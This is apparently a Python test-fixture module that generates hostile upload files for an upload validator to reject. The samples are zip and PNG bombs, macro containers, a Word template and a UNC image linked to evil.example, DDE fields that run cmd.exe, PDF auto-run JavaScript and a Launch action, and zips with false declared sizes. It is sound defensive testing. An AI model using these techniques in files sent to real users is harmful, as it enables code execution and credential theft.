"""The hostile files, generated (nothing big is committed): each is what an upload must refuse.

Lists (accounts, agencies) are built from a small good workbook; the form's from the form's own
downloaded file, so that only the one hostile thing is wrong with it.
"""

from __future__ import annotations

import io
import re
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl

from tests.excel.builders import edit, with_members

BOMB_MEMBER = "xl/media/image1.png"
ROWS = 100_000


@dataclass(frozen=True, slots=True)
class Bad:
    """A hostile upload: its name, its bytes, and a piece of the refusal it must get."""

    case: str
    filename: str
    data: bytes
    refusal: str

    def __str__(self) -> str:
        return self.case


def workbook(rows: list[list[object]], *, change: Callable[[object], None] | None = None) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Danh sách"
    for row in rows:
        sheet.append(row)
    if change is not None:
        change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_bomb(base: bytes) -> bytes:
    """21 MB of zeros in one member: some 20 KB on the wire."""
    return with_members(base, {BOMB_MEMBER: bytes(21 * 1024 * 1024)})


def external_link(base: bytes) -> bytes:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships"/></externalLink>'
    )
    return with_members(base, {"xl/externalLinks/externalLink1.xml": link})


def macros(base: bytes) -> bytes:
    """An .xlsm's content (a VBA project, macro-enabled type) under an .xlsx name."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml")
    types = types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
    return with_members(
        base, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0VBA", "[Content_Types].xml": types}
    )


def many_rows(base: bytes, sheet_member: str, row_xml: Callable[[int], str], first: int) -> bytes:
    """``ROWS`` more rows at the end of a sheet, written as XML (openpyxl takes a minute)."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        sheet = archive.read(sheet_member).decode()
    rows = "".join(row_xml(n) for n in range(first, first + ROWS))
    sheet = re.sub(r"<dimension [^>]*/>", "", sheet)
    sheet = sheet.replace("</sheetData>", rows + "</sheetData>")
    return with_members(base, {sheet_member: sheet.encode()})


def inline_row(n: int, values: list[str]) -> str:
    cells = "".join(
        f'<c r="{column}{n}" t="inlineStr"><is><t>{value}</t></is></c>'
        for column, value in zip("ABCDEFGH", values, strict=False)
    )
    return f'<row r="{n}">{cells}</row>'


def pdf() -> bytes:
    from chiso.loadtest.scenario import pdf as small_pdf

    return small_pdf("hostile", size=2048)


def oversize(megabytes: int) -> bytes:
    """A valid PDF start padded past ``megabytes`` MB."""
    return pdf() + b"%" + b"0" * (megabytes * 1024 * 1024)


def first_sheet_member(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return sorted(n for n in archive.namelist() if n.startswith("xl/worksheets/sheet"))[0]


__all__ = ["Bad", "edit", "with_members"]


# --- issue 15: what the outside probe sent --------------------------------------------------

_END, _FREE, _FATSECT, _NONE = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def ole(tree: list[tuple[str, int, int, int, int, bytes | None]]) -> bytes:
    """A compound file (OLE2, version 3) with the given directory, as Word 97 writes one.

    ``tree``: (name, type 1 storage / 2 stream / 5 root, left, right, child, stream bytes) per
    entry, entry 0 the root. Streams are padded to 4 KB, so no mini stream is needed.
    """
    import struct

    fat, payloads, starts, sector = [_FATSECT, 2, _END], [], {}, 3
    for number, (*_, payload) in enumerate(tree):
        if payload is None:
            continue
        payload = payload.ljust(max(4096, -(-len(payload) // 512) * 512), b"\0")
        count = len(payload) // 512
        starts[number] = (sector, len(payload))
        fat += [sector + i + 1 if i < count - 1 else _END for i in range(count)]
        payloads.append(payload)
        sector += count
    fat += [_FREE] * (128 - len(fat))
    directory = b""
    for number, (name, kind, left, right, child, _) in enumerate(tree):
        raw = name.encode("utf-16-le") + b"\0\0"
        start, size = starts.get(number, (_END, 0))
        directory += raw.ljust(64, b"\0") + struct.pack("<HBBII", len(raw), kind, 1, left, right)
        directory += struct.pack("<I", child) + bytes(36) + struct.pack("<IQ", start, size)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
    header += struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, _END, 0, _END, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", _FREE) * 108
    return header + struct.pack("<128I", *fat) + directory.ljust(1024, b"\0") + b"".join(payloads)


WORD_STREAM = b"\xec\xa5\xc1\x00" + bytes(4092)  # a FIB's magic number: Word 97's document


def doc_with_macros() -> bytes:
    """A Word 97 .doc with a Macros/VBA storage (the project that AutoOpen runs from)."""
    n = _NONE
    return ole(
        [
            ("Root Entry", 5, n, n, 1, None),
            ("WordDocument", 2, 2, n, n, WORD_STREAM),
            ("Macros", 1, n, n, 3, None),
            ("VBA", 1, n, n, 4, None),
            ("dir", 2, n, n, n, b'Attribute VB_Name = "ThisDocument"\nSub AutoOpen()'),
        ]
    )


def doc_plain() -> bytes:
    return ole(
        [
            ("Root Entry", 5, _NONE, _NONE, 1, None),
            ("WordDocument", 2, _NONE, _NONE, _NONE, WORD_STREAM),
        ]
    )


def xls_with_macro_sheet() -> bytes:
    """An Excel 97 .xls whose workbook declares an Excel 4.0 macro sheet (BOUNDSHEET type 1)."""
    import struct

    name = b"Macro1"
    sheet = struct.pack("<IBBBB", 0, 0, 1, len(name), 0) + name
    stream = struct.pack("<HH", 0x0809, 16) + bytes(16)  # BOF
    stream += struct.pack("<HH", 0x0085, len(sheet)) + sheet + struct.pack("<HH", 0x000A, 0)
    return ole(
        [("Root Entry", 5, _NONE, _NONE, 1, None), ("Workbook", 2, _NONE, _NONE, _NONE, stream)]
    )


def docx_member(base: bytes, member: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        return archive.read(member)


_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_external_template(base: bytes) -> bytes:
    """A .docx attached to a template on another server (Word fetches it on open)."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELS}/attachedTemplate"'
        ' Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    settings = docx_member(base, "word/settings.xml").replace(
        b"<w:defaultTabStop", b'<w:attachedTemplate r:id="rId1"/><w:defaultTabStop', 1
    )
    return with_members(
        base, {"word/_rels/settings.xml.rels": rels.encode(), "word/settings.xml": settings}
    )


def docx_external_image(base: bytes) -> bytes:
    """A .docx whose picture is linked from a server (fetched, and credentials sent, on open)."""
    rels = docx_member(base, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{_RELS}/image" Target="\\\\evil.example\\share\\a.png"'
        ' TargetMode="External"/></Relationships>'.encode(),
    )
    return with_members(base, {"word/_rels/document.xml.rels": rels})


def docx_dde_field(base: bytes) -> bytes:
    """A .docx with a DDEAUTO field, split over two runs as Word stores it."""
    body = docx_member(base, "word/document.xml").replace(
        b"</w:body>",
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText>'
        b'</w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'
        b'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>',
    )
    return with_members(base, {"word/document.xml": body})


def xlsx_dde() -> bytes:
    """An .xlsx whose cell asks Excel to start a program through DDE."""

    def change(book: object) -> None:
        book.active["C2"] = "=cmd|' /C calc'!A0"  # type: ignore[attr-defined]

    return workbook([["Mã", "Tên"], ["STTTT", "Sở Thông tin và Truyền thông"]], change=change)


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width`` × ``height`` (100 KB on the wire at most)."""
    import struct

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(bytes(64 * 1024), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def pdf_from(objects: list[bytes]) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


_PAGES = [
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
]


def pdf_open_action_js() -> bytes:
    """A PDF that runs JavaScript when opened."""
    return pdf_from(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            b"<< /Type /Action /S /JavaScript /JS (app.alert\\('chiso'\\)) >>",
        ]
    )


def pdf_escaped_js() -> bytes:
    """The same, its names written with #xx escapes (/J#61vaScript is /JavaScript)."""
    return pdf_from(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        ]
    )


def pdf_js_in_object_stream() -> bytes:
    """The action dictionary inside a compressed object stream (PDF 1.5), invisible to a scan
    of the raw bytes."""
    inner = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(2\\)) >>"
    packed = zlib.compress(b"4 0 " + inner)
    return pdf_from(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(packed)
            + packed
            + b"\nendstream",
        ]
    )


def pdf_launch() -> bytes:
    """A PDF whose open action starts a program."""
    return pdf_from(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES,
            b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
        ]
    )


def lying_size(data: bytes, member: str, declared: int, *, field: str = "size") -> bytes:
    """The zip with ``member``'s uncompressed (or, with ``field="compressed"``, compressed) size
    written as ``declared`` in its local header and the central directory, the CRC and the
    data unchanged: it passes every check of the sizes and fails only once read."""
    import struct

    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    local, central_at = (22, 24) if field == "size" else (18, 20)
    struct.pack_into("<I", out, info.header_offset + local, declared)
    position = 0
    while (central := out.find(b"PK\x01\x02", position)) >= 0:
        name_length = struct.unpack_from("<H", out, central + 28)[0]
        if out[central + 46 : central + 46 + name_length] == member.encode():
            struct.pack_into("<I", out, central + central_at, declared)
        position = central + 4
    return bytes(out)


def wide_dimension(base: bytes, member: str, rows: list[list[str]]) -> bytes:
    """The sheet with ``rows`` more and a declared dimension of every column Excel has
    (A1:XFD…): openpyxl's read-only mode pads each row to it."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        sheet = archive.read(member).decode()
    first = sheet.count("<row ") + 1
    xml = "".join(inline_row(first + i, values) for i, values in enumerate(rows))
    last = first + len(rows) - 1
    sheet = re.sub(r"<dimension [^>]*/>", f'<dimension ref="A1:XFD{last}"/>', sheet)
    sheet = sheet.replace("</sheetData>", xml + "</sheetData>")
    return with_members(base, {member: sheet.encode()})


def csv_with_long_field(header: str, row: str, length: int = 131_073) -> bytes:
    """A UTF-8 list whose second data row has one field longer than Python's csv reader takes."""
    return f'{header}\n{row}\n"{"x" * length}",b,c,d\n'.encode()
